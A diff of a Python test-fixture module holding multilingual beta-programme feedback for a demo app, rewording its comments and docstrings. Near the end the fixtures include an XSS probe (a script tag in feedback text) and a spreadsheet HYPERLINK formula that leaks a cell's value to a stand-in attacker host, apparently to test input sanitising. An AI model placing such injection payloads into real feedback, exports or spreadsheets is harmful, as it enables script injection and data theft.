@@ -1,10 +1,10 @@
-"""What participants of the demo's beta programme say: in English and French, and as people do, in whatever else."""
+"""Feedback of the participants of the demo's beta programme, in English, French and Arabic."""
 
 from __future__ import annotations
 
 from dataclasses import dataclass
 
-# By which way it comes.
+# The channel of the feedback.
 APPLICATION, MACHINE, FORM = "application", "machine", "form"
 OLD, NEW = "6.0.3", "6.1.0"
 ALICE, BRUNO, CHLOE, DAVID = "alice.martin", "bruno.petit", "chloe.durand", "david.moreau"
@@ -14,7 +14,7 @@ INES, JULES, KARIM, YASMINE = "ines.abena", "jules.legoff", "karim.haddad", "yas
 
 @dataclass(frozen=True)
 class Voice:
-    """Said `ago` days before now."""
+    """One piece of feedback, given `ago` days before now."""
 
     ago: float
     who: str
@@ -27,8 +27,8 @@ class Voice:
     way: str = APPLICATION
 
     def fields(self) -> dict[str, object]:
-        """As the call for feedback takes it, without its id and its moment."""
-        said = {
+        """Return the fields of the feedback call, without id and time."""
+        fields = {
             "participant": f"{self.who}@example.org",
             "type": self.type,
             "nps_score": self.score,
@@ -37,10 +37,10 @@ class Voice:
             "page": self.page,
             "app_version": self.version,
         }
-        return {name: value for name, value in said.items() if value not in (None, "")}
+        return {name: value for name, value in fields.items() if value not in (None, "")}
 
 
-# First impressions, of which nobody makes a number yet.
+# First impressions, without scores.
 FIRST = [
     Voice(20.4, ALICE, "ux", "The new list of documents is much calmer than the old one.", page="/documents"),
     Voice(20.1, BRUNO, "ux", "Où est passé le bouton « Exporter » ? Je l'ai cherché cinq minutes.", page="/export"),
@@ -50,7 +50,7 @@ FIRST = [
     Voice(18.1, BRUNO, "bug", "The total below the list shows 1,204 where 1,024 are counted.", severity="low"),
 ]
 
-# A week in which much goes wrong.
+# A week with many bugs.
 LOST, LOST_AGAIN = "After sleep the machine forgot", "J'ai perdu le comptage de ce matin"
 HANGS = "The export to PDF hangs at 99 %"
 WRONG = "Encrypted documents are counted as 0 pages"
@@ -66,7 +66,7 @@ SECOND = [
     Voice(11.3, YASMINE, "ux", "القائمة الجديدة واضحة جدا، شكرا لكم 🙏", 8, page="/documents"),
 ]
 
-# A new version, and a better mood.
+# A new version with better scores.
 MARKUP = "<b>Bold</b> and <script>alert('feedback')</script> stand in my document's name, and nothing happened. Good."
 FORMULA = '=HYPERLINK("https://evil.example.org/?leak="&A1;"click me")'
 UNJUDGED = "Sometimes the icon in the tray stays grey"
